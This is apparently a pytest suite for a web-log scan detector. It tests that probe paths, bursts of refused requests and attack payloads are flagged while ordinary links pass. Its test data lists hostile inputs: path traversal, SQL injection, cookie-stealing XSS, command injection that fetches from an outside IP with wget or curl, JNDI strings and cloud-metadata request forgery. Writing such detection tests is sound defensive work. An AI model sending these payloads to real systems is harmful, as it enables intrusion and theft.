"""Web scans: what attackers ask for, and what visitors, crawlers and ordinary links look like."""

from __future__ import annotations

from dataclasses import replace

import pytest
from log_samples import parsed, request, web_line

from securenet.logs.detectors import Detection, PathScanDetector, Severity
from securenet.logs.detectors.web_patterns import attack_patterns, decoded
from securenet.logs.parsers import Event


def detections(events: list[Event], **settings: object) -> list[Detection]:
    detector = PathScanDetector(**settings)
    found = [detection for event in events for detection in detector.observe(event)]
    return [*found, *detector.finish()]


@pytest.mark.parametrize("status", [403, 404])
def test_twenty_different_refused_paths_are_a_scan_and_nineteen_are_not(status: int) -> None:
    assert not detections([request(number, f"/a{number}", status) for number in range(19)])
    (found,) = detections([request(number, f"/a{number}", status) for number in range(20)])
    assert (found.subject, found.severity, found.count) == ("192.0.2.1", Severity.MEDIUM, 20)
    assert found.evidence["refused_paths"] == 20


@pytest.mark.parametrize(
    "events",
    [
        [request(number, "/gone", 404) for number in range(500)],
        [request(number, f"/a{number}", 200) for number in range(500)],
        [request(number, f"/api/a{number}", 401) for number in range(500)],
        [request(number * 60, f"/a{number}", 404) for number in range(200)],
        [request(number, f"/a{number}", 404, f"192.0.2.{number % 200}") for number in range(400)],
        [request(0, path, 404) for path in ("/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/a.js.map")],
        [request(number, f"/static/chunk{number}.js.map", 404) for number in range(60)],
    ],
    ids=[
        "one dead link",
        "all found",
        "expired token",
        "slow crawler",
        "many visitors",
        "browsers",
        "source maps",
    ],
)
def test_everyday_misses_are_no_scan(events: list[Event]) -> None:
    assert not detections(events)


@pytest.mark.parametrize(
    "path",
    [
        "/.env",
        "/app/.env.production",
        "/%2eenv",
        "/%252eenv",
        "/.git/config",
        "/site/.git/HEAD",
        "//.git//config",
        "/.GIT/CONFIG",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/wp-login.php",
        "/blog/xmlrpc.php",
        "/wp-admin/setup-config.php",
        "/phpMyAdmin/index.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/actuator/heapdump",
        "/cgi-bin/luci",
        "/backup.sql",
        "/.git;x=1/config",
        "http://203.0.113.9/.env",
    ],
)
def test_a_known_probe_path_is_reported(path: str) -> None:
    (found,) = detections([request(0, path, 404)])
    assert found.severity is Severity.LOW
    assert len(found.evidence["probe_paths"]) == 1


def test_several_probes_weigh_more_than_one() -> None:
    (found,) = detections([request(0, path, 404) for path in ("/.env", "/.git/config", "/wp-login.php")])
    assert (found.severity, found.count) == (Severity.MEDIUM, 3)


def test_a_secret_that_is_served_is_grave() -> None:
    (found,) = detections([request(0, "/.git/config", 200)])
    assert (found.severity, found.evidence["served"]) == (Severity.HIGH, True)


@pytest.mark.parametrize(("path", "status"), [("/wp-login.php", 200), ("/wp-admin/", 302), ("/server-status", 403)])
def test_software_that_is_installed_is_no_probe(path: str, status: int) -> None:
    assert not detections([request(0, path, status)])


ATTACKS = [
    ("path traversal", "/../../etc/passwd", ""),
    ("path traversal", "/static/%2e%2e/%2e%2e/secret", ""),
    ("path traversal", "/static/..%252f..%252fsecret", ""),
    ("path traversal", "/%c0%ae%c0%ae/%c0%ae%c0%ae/x", ""),
    ("path traversal", "/%u002e%u002e/%u002e%u002e/x", ""),
    ("path traversal", "/..;/manager", ""),
    ("path traversal", "/a/..\\..\\windows\\win.ini", ""),
    ("path traversal", "/download", "file=../../../../etc/shadow"),
    ("path traversal", "/download", "file=%2Fetc%2Fpasswd"),
    ("path traversal", "/download", "file=report.pdf%00.png"),
    ("SQL injection", "/item", "id=1+UNION+ALL+SELECT+null,null--"),
    ("SQL injection", "/item", "id=1%27%20OR%20%271%27=%271"),
    ("SQL injection", "/item", "id=1%2527%2520OR%25201=1"),
    ("SQL injection", "/item", "id=1 or 1=1"),
    ("SQL injection", "/item", "id=1/**/UNION/**/SELECT/**/1"),
    ("SQL injection", "/item", "id=1'/**/OR/**/'1'='1"),
    ("SQL injection", "/item", "id=1;DROP TABLE users"),
    ("SQL injection", "/item", "id=1 AND SLEEP(5)"),
    ("SQL injection", "/item", "id=(select(0)from(select(sleep(9)))v)"),
    ("SQL injection", "/item", "id=1;WAITFOR DELAY '0:0:5'"),
    ("SQL injection", "/item", "q=information_schema.tables"),
    ("SQL injection", "/item'and'x'='x' or 'a'='a", ""),
    ("cross-site scripting", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("cross-site scripting", "/search", "q=<img+src=x+onerror=alert(1)>"),
    ("cross-site scripting", "/search", "q=<svg/onload=alert(1)>"),
    ("cross-site scripting", "/go", "to=javascript:alert(document.cookie)"),
    ("command injection", "/ping", "host=1.1.1.1;cat+/etc/hostname"),
    ("command injection", "/ping", "host=`id`"),
    ("command injection", "/ping", "host=|wget+http://203.0.113.1/x.sh"),
    ("command injection", "/ping", "host=$(curl+http://203.0.113.1)"),
    ("expression injection", "/", "x=${jndi:ldap://203.0.113.1/a}"),
    ("expression injection", "/", "x=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D"),
    ("expression injection", "/", "name={{7*7}}"),
    ("file inclusion", "/index", "page=php://filter/convert.base64-encode/resource=index"),
    ("file inclusion", "/index", "url=file:///etc/hostname"),
    ("request forgery", "/fetch", "url=http://169.254.169.254/latest/meta-data/"),
]


@pytest.mark.parametrize(("name", "path", "query"), ATTACKS)
def test_attacks_are_recognised_in_path_and_query(name: str, path: str, query: str) -> None:
    assert name in attack_patterns(path, query)
    (found,) = detections([request(0, path, 400, query=query)])
    assert name in found.evidence["patterns"]
    assert found.severity.rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/", ""),
        ("/search", "q=union+station+select+hotels"),
        ("/search", "q=how+to+select+from+a+table+or+drop+it"),
        ("/search", "q=rock+%26+roll+or+blues"),
        ("/search", "q=O%27Brien+and+sons"),
        ("/search", "q=time.sleep(5)+python"),
        ("/search", "q=%22exact+phrase%22+and+more"),
        ("/search", "q=a+%3C+b+and+c+%3E+d"),
        ("/search", "q=cats+%7C+dogs"),
        ("/search", "q=javascript:+the+good+parts"),
        ("/search", "q=%7B%7Bcite+web%7D%7D"),
        ("/api/items", "fields=name|id|status&sort=-date"),
        ("/api/items", "filter[status]=open&filter[user]=5"),
        ("/api/items", "ids=(1,2,3)&x=$top"),
        ("/redirect", "to=https://example.org/a?b=c&d=e"),
        ("/redirect", "to=..%2Fhome"),
        ("/files/archive..2026.tar.gz", ""),
        ("/wiki/C++_(programming_language)", ""),
        ("/wiki/Semicolon;_and_other_marks", ""),
        ("/maps/@52.5,13.4,12z/data=!3m1!4b1", ""),
        ("/caf%C3%A9/%E4%BD%A0%E5%A5%BD", "name=M%C3%BCller"),
        ("/environment/.environment-guide", ""),
        ("/docs/git/config", ""),
        ("/etc/passwords-policy", ""),
    ],
)
def test_ordinary_links_are_left_alone(path: str, query: str) -> None:
    assert attack_patterns(path, query) == []
    assert not detections([request(0, path, 200, query=query)])


def test_decoding_goes_two_levels_deep_and_no_further() -> None:
    assert decoded("/%2e") == "/."
    assert decoded("/%252E") == "/."
    assert decoded("/%25252e") == "/%2e"


def test_an_attack_in_a_header_is_recognised() -> None:
    events = [
        parsed(web_line(0, "192.0.2.1", "/", agent=agent)) for agent in ("${jndi:ldap://x/a}", "() { :; }; /bin/id")
    ]
    (found,) = detections(events)
    assert set(found.evidence["patterns"]) == {"expression injection", "command injection"}


def test_an_attack_behind_padding_is_found_in_a_line_of_the_greatest_length() -> None:
    line = web_line(0, "192.0.2.1", "/?a=" + "x" * 7000 + "&f=../../../etc/passwd", 404)
    assert len(detections([parsed(line)])) == 1


def test_one_source_is_one_detection_with_examples_to_check() -> None:
    events = [request(number, f"/a{number}", 404) for number in range(30)]
    events += [request(40, "/.env", 404), request(41, "/x", 500, query="id=1 or 1=1")]
    (found,) = detections(events)
    assert found.count == 32
    assert "GET /.env 404" in found.evidence["examples"]
    assert "GET /x?id=1 or 1=1 500" in found.evidence["examples"]


def test_memory_is_bounded_by_sources() -> None:
    detector = PathScanDetector(max_sources=10)
    found = [
        detection
        for number in range(500)
        for detection in detector.observe(request(0, "/.env", 404, f"10.0.{number // 256}.{number % 256}"))
    ]
    assert len(found) == 490
    assert len(list(detector.finish())) == 10


@pytest.mark.parametrize("status", ["ok", "", "4O4", "404.0", "-1", "9" * 400])
def test_a_status_that_is_none_is_as_good_as_absent(status: str) -> None:
    seen = parsed(web_line(0, "192.0.2.1", "/.env"))
    found = detections([replace(seen, fields={**seen.fields, "status": status})])
    assert [each.severity for each in found] == [each.severity for each in detections([seen_without_status(seen)])]


def seen_without_status(seen: Event) -> Event:
    return replace(seen, fields={name: value for name, value in seen.fields.items() if name != "status"})
